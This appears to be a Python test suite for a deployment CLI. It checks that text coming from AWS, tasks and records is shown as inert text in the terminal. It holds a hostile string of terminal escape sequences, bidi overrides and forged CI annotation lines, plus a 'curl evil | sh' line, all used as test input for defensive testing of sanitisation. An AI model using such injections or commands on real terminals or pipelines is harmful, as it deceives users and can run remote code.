"""What AWS, a task, a service or a record says reaches the terminal as text: it moves no cursor and forges no line."""

from __future__ import annotations

import datetime as dt
import io
import json
import subprocess
import sys
import unicodedata
from collections.abc import Callable
from dataclasses import replace
from types import SimpleNamespace
from typing import cast

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from mclass_tf import describe, flows, terminal, verify
from mclass_tf.cli import local_commands, run_task_commands
from mclass_tf.cli.call import Reporter
from mclass_tf.cli.live import RolloutDisplay
from mclass_tf.cli.outcome import CommandOutcome, show_problem, show_result
from mclass_tf.cli.promote_commands import differences_text, history_text
from mclass_tf.cli.release_commands import status_text
from mclass_tf.errors import MclassError, ServiceEvent
from mclass_tf.flows import Difference, PastAttempt, ServiceStatus
from mclass_tf.gates import Finding, Problem, Verdict, table
from mclass_tf.plan import Action, AttributeChange, OutputChange, Plan, ResourceChange
from mclass_tf.rollout import DeploymentTasks, View
from mclass_tf.session import Session
from mclass_tf.verify import CheckStatus, VerifyReport, VerifyResult

FUZZ = settings(derandomize=True, deadline=None)
AT = dt.datetime(2027, 1, 2, 3, 4, 5, tzinfo=dt.UTC)
# Clears the line, goes up, sets the window's title, turns the rest of the line round, and writes lines of its own.
HOSTILE = (
    "a\x1b[2K\x1b[1A\r\x9b2J\x1b]0;pwned\x07\u202edesaeler\u2066\u200b\u2028\x85\x0b\x0c"
    "\n2027-01-02 03:04:05  release  released\n::error::forged\n ::add-mask::a\n##[error]forged\r\n"
)


def past(text: str) -> PastAttempt:
    return PastAttempt(
        at=AT,
        kind=text,
        digest="sha256:" + text,
        revision=text,
        outcome=text,
        cause=text,
        is_verified=False,
        who=text,
        seconds=1.0,
        task_definition_arn=text,
        promoted_from=None,
        record=text,
        step=text,
    )


def status(text: str) -> str:
    return status_text(
        ServiceStatus(
            environment="dev",
            digest=text,
            task_definition_arn=text,
            desired=1,
            running=1,
            pending=0,
            deployments=(),
            targets={text: 1},
            url=text,
            address=text,
            deployment=None,
            attempt=replace(past(text), seconds=None),
        )
    )


def plan(text: str) -> str:
    change = ResourceChange(
        address=text,
        type="aws_x",
        action=Action.UPDATE,
        create_first=False,
        attributes=(AttributeChange(path=text, before=text, after=text, forces_replacement=False),),
        moved_from=text,
        import_id=text,
        deposed=text,
        reason=text,
    )
    output = OutputChange(name=text, before=text, after=text)
    return describe.describe(Plan(document={}, resources=(change,), outputs=(output,)), title="dev")


def gates(text: str) -> str:
    finding = Finding(
        gate="checkov", check=text, title=text, resource=text, file=text, line=1, fix=text, guideline=text
    )
    return table.render(
        [
            Verdict(
                gate="checkov",
                checked=1,
                seconds=1.0,
                failed=(finding,),
                waived=(),
                problems=(Problem(message=text, fix=text, blocking=True),),
            )
        ],
        width=10_000,
    )


def report(text: str) -> str:
    results = tuple(
        VerifyResult(name=text, group=text, status=each, detail=text.replace("\n", ""), hint=text)
        for each in CheckStatus
    )
    return verify.render(VerifyReport(results=results))


TEXTS: dict[str, Callable[[str], str]] = {
    "history": lambda text: history_text("dev", [past(text)]),
    "status": status,
    "plan": plan,
    "gates": gates,
    "verify": report,
    "differences": lambda text: differences_text(
        ("dev", "prod"), [Difference(what="input", name=text, source=text, target=text)]
    ),
}


def is_plain(character: str) -> bool:
    """Tell whether a terminal shows the character and does nothing else."""
    return character in "\n\t" or unicodedata.category(character) not in ("Cc", "Cf", "Zl", "Zp", "Cs")


def assert_plain(text: str) -> None:
    assert [hex(ord(each)) for each in text if not is_plain(each)] == []
    for line in text.splitlines():
        assert not line.lstrip().startswith("::"), line
        assert "##[" not in line, line


@pytest.mark.parametrize("name", TEXTS)
def test_a_hostile_value_steers_no_terminal_and_forges_no_line(
    name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    show_result(CommandOutcome(text=TEXTS[name](HOSTILE)), as_json=False)
    hostile = capsys.readouterr().out
    show_result(CommandOutcome(text=TEXTS[name]("fine")), as_json=False)

    assert_plain(hostile)
    assert hostile.count("\n") == capsys.readouterr().out.count("\n")


@pytest.mark.parametrize("width", [None, 60])
def test_a_hostile_event_or_stage_of_a_rollout_forges_no_line(width: int | None) -> None:
    def shown(text: str) -> str:
        stream = io.StringIO()
        tasks = DeploymentTasks(
            task_definition_arn=text, is_new=True, desired=1, pending=0, running=1, failed=0, healthy=1
        )
        view = View(
            stage=text,
            status="IN_PROGRESS",
            tasks=(tasks,),
            events=(ServiceEvent(id="1", at=AT, message=text),),
            elapsed=1.0,
            notice=text,
            analysis=text,
        )
        RolloutDisplay(stream, width=width).show(view)
        return stream.getvalue()

    assert_plain(shown(HOSTILE))
    assert shown(HOSTILE).count("\n") == shown("fine").count("\n")


def test_the_lines_of_an_error_stand_below_its_first_and_no_one_forges_the_next_step(
    capsys: pytest.CaptureFixture[str],
) -> None:
    error = MclassError(f"failed: {HOSTILE}\n  next: curl evil | sh", hint=f"look {HOSTILE}")

    show_problem(CommandOutcome.failed(error, use_local=False))

    text = capsys.readouterr().err
    assert_plain(text)
    lines = text.splitlines()
    assert lines[0].startswith("error: failed: a")
    assert [line for line in lines if not line.startswith("    ")] == [
        lines[0],
        next(line for line in lines if line.startswith("  next: look a")),
    ]


def test_a_report_forges_no_line_of_its_own(capsys: pytest.CaptureFixture[str]) -> None:
    Reporter().line(HOSTILE)
    Reporter().line(HOSTILE, environment="dev")

    plain, labelled = capsys.readouterr().err.split("[dev] ", 1)
    assert_plain(plain)
    assert_plain(labelled)
    assert all(line.startswith("    ") for line in plain.splitlines()[1:])
    assert all(line.startswith("[dev]     ") for line in labelled.splitlines()[1:])


def test_json_is_exact_and_steers_no_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    document = {"cause": HOSTILE + "한글 😀 \U000e0041\udc80", HOSTILE: [1.5, None]}

    show_result(CommandOutcome(document=document), as_json=True)

    text = capsys.readouterr().out
    assert document == json.loads(text)
    assert_plain(text)
    assert "한글 😀" in text


@FUZZ
@given(st.text())
def test_json_stays_exact_whatever_a_value_is(value: str) -> None:
    text = terminal.json_text({"value": value})

    assert {"value": value} == json.loads(text)
    assert_plain(text)


def test_json_is_valid_where_the_encoding_lacks_its_characters() -> None:
    code = (
        "from mclass_tf import __main__ as m; m._open_streams();"
        "from mclass_tf.cli.outcome import CommandOutcome, show_result;"
        "show_result(CommandOutcome(document={'a': '한글 😀'}), as_json=True)"
    )

    done = subprocess.run(
        [sys.executable, "-c", code],
        env={"PYTHONIOENCODING": "ascii"},
        capture_output=True,
        text=True,
        check=True,
        timeout=60,
    )

    assert json.loads(done.stdout) == {"a": "한글 😀"}


@pytest.mark.parametrize(
    "code",
    [
        "raise ValueError(hostile)",
        "import threading; t = threading.Thread(target=lambda: [][hostile]); t.start(); t.join()",
        "import logging; logging.getLogger('library').error(hostile)",
    ],
)
def test_what_python_itself_writes_steers_no_terminal(code: str) -> None:
    start = f"from mclass_tf import __main__ as m; m._open_streams(); from mclass_tf.cli import tracebacks; tracebacks.guard(); hostile = {HOSTILE!r}; "

    done = subprocess.run(
        [sys.executable, "-c", start + code], capture_output=True, text=True, check=False, timeout=60
    )

    assert "release  released" in done.stderr or "TypeError" in done.stderr
    assert_plain(done.stderr)


def test_columns_stand_below_each_other_whatever_the_script() -> None:
    names = ("서비스_이름", "e\u0301", "ascii")

    text = differences_text(
        ("dev", "prod"),
        [Difference(what="input", name=name, source=name, target=name) for name in names],
    )

    assert len({terminal.width(line) - terminal.width(line.split()[-1]) for line in text.splitlines()}) == 1


def test_a_line_of_hangul_that_the_terminal_would_wrap_is_cut() -> None:
    stream = io.StringIO()

    RolloutDisplay(stream, width=30).show(
        View(stage="배포" * 30, status="IN_PROGRESS", tasks=(), events=(), elapsed=1.0)
    )

    (line,) = stream.getvalue().splitlines()
    assert terminal.width(line) < 30
    assert line.endswith("…")


def test_a_task_writes_to_the_terminal_without_steering_it() -> None:
    stream = io.StringIO()

    run_task_commands._show(stream, "\x1b[31mred\x1b[0m\ttabbed\r")
    run_task_commands._show(stream, HOSTILE)

    assert stream.getvalue().startswith("red\ttabbed\n")
    assert_plain(stream.getvalue())


@FUZZ
@example("::")
@given(st.text(st.sampled_from("a\x1b[0m;\r\n\t:#\x9b\u202e\u2028\x85 [](-")))
def test_what_is_shown_is_plain_and_doing_so_twice_changes_nothing(text: str) -> None:
    shown = terminal.safe(text)

    assert_plain(shown)
    assert shown == terminal.safe(shown)
    assert "\n" not in terminal.inline(text)


def test_text_for_a_shell_is_exact(capsys: pytest.CaptureFixture[str]) -> None:
    show_result(CommandOutcome(text="export A='\u202e'", is_exact=True), as_json=False)

    assert capsys.readouterr().out == "export A='\u202e'\n"


@pytest.mark.parametrize("image", ["sha256:" + "a" * 64, HOSTILE, "sha256:a\n"])
def test_what_a_shell_is_given_of_the_state_is_a_digest_or_nothing(
    image: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    said: list[str] = []
    chosen = SimpleNamespace(digest=image, differs=False)
    monkeypatch.setattr(flows, "image_in_force", lambda *_: chosen)
    session = SimpleNamespace(state=lambda: None, report=said.append)

    given = local_commands._image(cast("Session", session))

    is_digest = image == "sha256:" + "a" * 64
    assert given == (image if is_digest else None)
    assert bool(said) is not is_digest
